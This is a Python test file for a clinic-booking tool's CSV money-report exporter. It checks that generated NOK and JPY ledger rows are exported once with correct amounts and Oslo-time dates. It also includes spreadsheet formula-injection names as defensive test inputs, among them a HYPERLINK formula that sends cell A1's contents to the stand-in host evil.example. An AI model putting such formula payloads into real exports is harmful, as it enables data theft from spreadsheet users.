"""slotguard/reports/export.py on a generated ledger: every money row the generator made
appears once with its amount, written from integer minor units by the currency's exponent
(NOK and JPY), nothing else appears, and no cell can run as a spreadsheet formula. The
expected rows and amounts are the generator's own record, counted without the exporter."""

from __future__ import annotations

import csv
import io
import random
from collections import Counter
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from slotguard.domain.model import ActionKind, ActionState, ActionSubject, new_action
from slotguard.domain.money import Money
from slotguard.payments.paid import record_paid
from slotguard.reports.export import COLUMNS, csv_text, money_rows
from slotguard.store.ledger import Ledger

OSLO = ZoneInfo("Europe/Oslo")
START = datetime(2026, 9, 1, tzinfo=OSLO)
END = datetime(2026, 11, 1, tzinfo=OSLO)  # the export covers September and October
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+47 400 00 000", "-2+3", "@SUM(A1:A9)", "\tTab", "Ana Silva"]
SPREADSHEET_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def amount_text(minor: int, currency: str) -> str:
    """Counted here by integer arithmetic: NOK has two decimals, JPY none."""
    if currency == "JPY":
        return str(minor)
    return f"{minor // 100}.{minor % 100:02d}"


class Generator:
    """Writes a random mix of money actions into a ledger and keeps what the export must say."""

    def __init__(self, ledger: Ledger, currency: str, seed: int):
        self.ledger = ledger
        self.currency = currency
        self.random = random.Random(seed)
        self.expected: Counter = Counter()
        self.count = 0

    def moment(self) -> datetime:
        # from mid-August to mid-November: some rows fall outside the exported period
        return datetime(2026, 8, 15, 9, tzinfo=OSLO) + timedelta(minutes=self.random.randrange(0, 90 * 24 * 60, 7))

    def expect(self, at: datetime, type_: str, client: str, minor: int, stripe: str = "") -> None:
        if START <= at < END:
            self.expected[(at.astimezone(OSLO).strftime("%Y-%m-%d"), type_, client, amount_text(minor, self.currency), self.currency, stripe)] += 1

    def action(self, kind, state=ActionState.DONE, *, policy="no_show", minor=None, executed=None, external="", context=None, reports_on=None):
        self.count += 1
        client = self.random.choice(HOSTILE_NAMES)
        email = f"client{self.count % 7}@example.com"
        subject = ActionSubject("primary", f"event{self.count}", email, client, executed or self.moment())
        action = new_action(
            subject, kind, policy, f"generated {kind.value} {self.count}", key=f"k{self.count}", now=(executed or self.moment()) - timedelta(hours=1),
            state=state, amount=Money(minor if minor is not None else self.random.randint(1, 250_000), self.currency),
            executed_at=executed, reports_on=reports_on, context=context or {},
        )
        action.external_id = external
        assert self.ledger.add_action(action)
        return action

    def stripe(self, prefix: str) -> str:
        return f"{prefix}_{self.random.getrandbits(64):016x}"

    def one(self) -> None:
        at = self.moment()
        case = self.random.choice([
            "fee_card", "fee_link_paid", "fee_link_unpaid", "receivable", "deposit_paid", "prepayment_unpaid", "capture",
            "refund", "withdrawn", "writeoff", "credit_fee", "installment_paid", "not_money",
        ])
        if case == "fee_card":
            fee = self.action(ActionKind.CHARGE, executed=at, external=self.stripe("pi"), context={"payment_status": "paid"})
            self.expect(at, "fee", fee.client_email, fee.amount.minor, fee.external_id)
            self.expect(at, "payment", fee.client_email, fee.amount.minor, fee.external_id)
        elif case == "fee_link_paid":
            fee = self.action(ActionKind.CHARGE, executed=at, external=self.stripe("pi"), context={"payment_status": "unpaid"})
            paid_at = at + timedelta(days=self.random.randint(0, 40), minutes=self.random.randint(1, 600))
            assert record_paid(self.ledger, fee, paid_at, "paid through Stripe (checkout.session.completed)")
            self.expect(at, "fee", fee.client_email, fee.amount.minor, fee.external_id)
            self.expect(paid_at, "payment", fee.client_email, fee.amount.minor, fee.external_id)
        elif case == "fee_link_unpaid":
            fee = self.action(ActionKind.CHARGE, executed=at, external=self.stripe("pi"), context={"payment_status": "unpaid"})
            self.expect(at, "fee", fee.client_email, fee.amount.minor, fee.external_id)
        elif case == "receivable":
            fee = self.action(ActionKind.CHARGE, policy="late_cancel", executed=at, external=f"receivable:act_{self.count}", context={"payment_status": "receivable"})
            self.expect(at, "fee", fee.client_email, fee.amount.minor)
        elif case == "deposit_paid":
            deposit = self.action(ActionKind.CHARGE, policy="deposit", executed=at, external=self.stripe("pi"), context={"purpose": "deposit", "payment_status": "paid"})
            self.expect(at, "deposit", deposit.client_email, deposit.amount.minor, deposit.external_id)
            self.expect(at, "payment", deposit.client_email, deposit.amount.minor, deposit.external_id)
        elif case == "prepayment_unpaid":
            prepayment = self.action(ActionKind.CHARGE, policy="prepayment", executed=at, external=self.stripe("pi"), context={"purpose": "prepayment", "payment_status": "unpaid"})
            self.expect(at, "prepayment", prepayment.client_email, prepayment.amount.minor, prepayment.external_id)
        elif case == "capture":
            hold = self.action(ActionKind.HOLD, policy="deposit", executed=at - timedelta(days=2), external=self.stripe("pi"), context={"purpose": "deposit"})
            capture = self.action(ActionKind.CAPTURE, executed=at, minor=hold.amount.minor, external=hold.external_id,
                                  context={"purpose": "fee", "target_action_id": hold.id})
            self.expect(at, "fee", capture.client_email, capture.amount.minor, capture.external_id)
            self.expect(at, "payment", capture.client_email, capture.amount.minor, capture.external_id)
        elif case == "refund":
            refund = self.action(ActionKind.REFUND, policy="refund", executed=at, external=self.stripe("re"), context={"purpose": "refund"})
            self.expect(at, "refund", refund.client_email, refund.amount.minor, refund.external_id)
        elif case == "withdrawn":
            withdrawn = self.action(ActionKind.REFUND, policy="refund", executed=at, context={"purpose": "refund", "payment_status": "nothing_taken"})
            self.expect(at, "withdrawn", withdrawn.client_email, withdrawn.amount.minor)
        elif case == "writeoff":
            writeoff = self.action(ActionKind.WRITEOFF, policy="collections", executed=at, context={"collects": "act_fee"})
            self.expect(at, "writeoff", writeoff.client_email, writeoff.amount.minor)
        elif case == "credit_fee":
            deposit = self.action(ActionKind.CHARGE, policy="deposit", executed=at - timedelta(days=3), external=self.stripe("pi"),
                                  context={"purpose": "deposit", "payment_status": "paid"})
            self.expect(at - timedelta(days=3), "deposit", deposit.client_email, deposit.amount.minor, deposit.external_id)
            self.expect(at - timedelta(days=3), "payment", deposit.client_email, deposit.amount.minor, deposit.external_id)
            credit = self.action(ActionKind.CREDIT, executed=at, minor=deposit.amount.minor, context={"purpose": "fee", "target_action_id": deposit.id})
            self.expect(at, "fee", credit.client_email, credit.amount.minor)
        elif case == "installment_paid":
            installment = self.action(ActionKind.CHARGE, policy="collections", executed=at, external=self.stripe("pi"),
                                      context={"payment_status": "paid", "collects": "act_fee"})
            self.expect(at, "payment", installment.client_email, installment.amount.minor, installment.external_id)
        else:  # money that did not move: none of these is a row
            self.action(ActionKind.HOLD, policy="deposit", executed=at, external=self.stripe("pi"), context={"purpose": "deposit"})
            self.action(ActionKind.RELEASE, policy="deposit", executed=at, context={"purpose": "deposit_return"})
            self.action(ActionKind.WAIVE, executed=at)
            self.action(ActionKind.CHARGE, executed=at, context={"dry_run": True, "payment_status": "paid"})
            self.action(ActionKind.CHARGE, ActionState.FAILED, executed=at)
            self.action(ActionKind.CHARGE, ActionState.PLANNED)
            self.action(ActionKind.CREDIT, executed=at, context={"purpose": "deposit_applied"})


def exported(ledger: Ledger) -> list[dict[str, str]]:
    text = csv_text(money_rows(ledger, START, END), OSLO)
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("currency, seed", [("NOK", 1), ("NOK", 2), ("JPY", 3)])
def test_every_money_row_of_a_generated_ledger_is_exported_once_with_its_amount(tmp_path, currency, seed):
    ledger = Ledger(str(tmp_path / "ledger.sqlite3"))
    generator = Generator(ledger, currency, seed)
    for _ in range(150):
        generator.one()
    rows = exported(ledger)
    ledger.close()
    found = Counter((row["date"], row["type"], row["client_email"], row["amount"], row["currency"], row["stripe_id"]) for row in rows)
    assert found == generator.expected
    assert sum(generator.expected.values()) > 100, "the generator made enough rows to mean something"
    assert {key[1] for key in generator.expected} >= {"fee", "payment", "deposit", "prepayment", "refund", "withdrawn", "writeoff"}
    if currency == "JPY":
        assert all("." not in row["amount"] for row in rows), "yen have no decimals"
    else:
        assert all(len(row["amount"].partition(".")[2]) == 2 for row in rows)
    assert [row["date"] for row in rows] == sorted(row["date"] for row in rows), "oldest first"


def test_no_cell_can_run_as_a_formula_and_names_keep_their_text(tmp_path):
    ledger = Ledger(str(tmp_path / "ledger.sqlite3"))
    generator = Generator(ledger, "NOK", 7)
    for _ in range(60):
        generator.one()
    text = csv_text(money_rows(ledger, START, END), OSLO)
    ledger.close()
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    names = set()
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(SPREADSHEET_FORMULA), cell
        names.add(row[COLUMNS.index("client_name")])
    assert "'" + HOSTILE_NAMES[0] in names and "'+47 400 00 000" in names and "Ana Silva" in names
    assert "'@SUM(A1:A9)" in names and "'-2+3" in names and "Tab" in names, "a leading tab is folded away with the other whitespace"


def test_a_period_boundary_is_a_day_in_the_practices_zone(tmp_path):
    ledger = Ledger(str(tmp_path / "ledger.sqlite3"))
    generator = Generator(ledger, "NOK", 11)
    late = datetime(2026, 10, 31, 23, 30, tzinfo=OSLO)  # 22:30 UTC: still October in Oslo
    fee = generator.action(ActionKind.CHARGE, executed=late, external="pi_late", context={"payment_status": "unpaid"})
    after = generator.action(ActionKind.CHARGE, executed=END, external="pi_after", context={"payment_status": "unpaid"})
    rows = exported(ledger)
    ledger.close()
    ids = {row["ledger_id"]: row for row in rows}
    assert fee.id in ids and after.id not in ids
    assert (ids[fee.id]["date"], ids[fee.id]["time"]) == ("2026-10-31", "23:30")
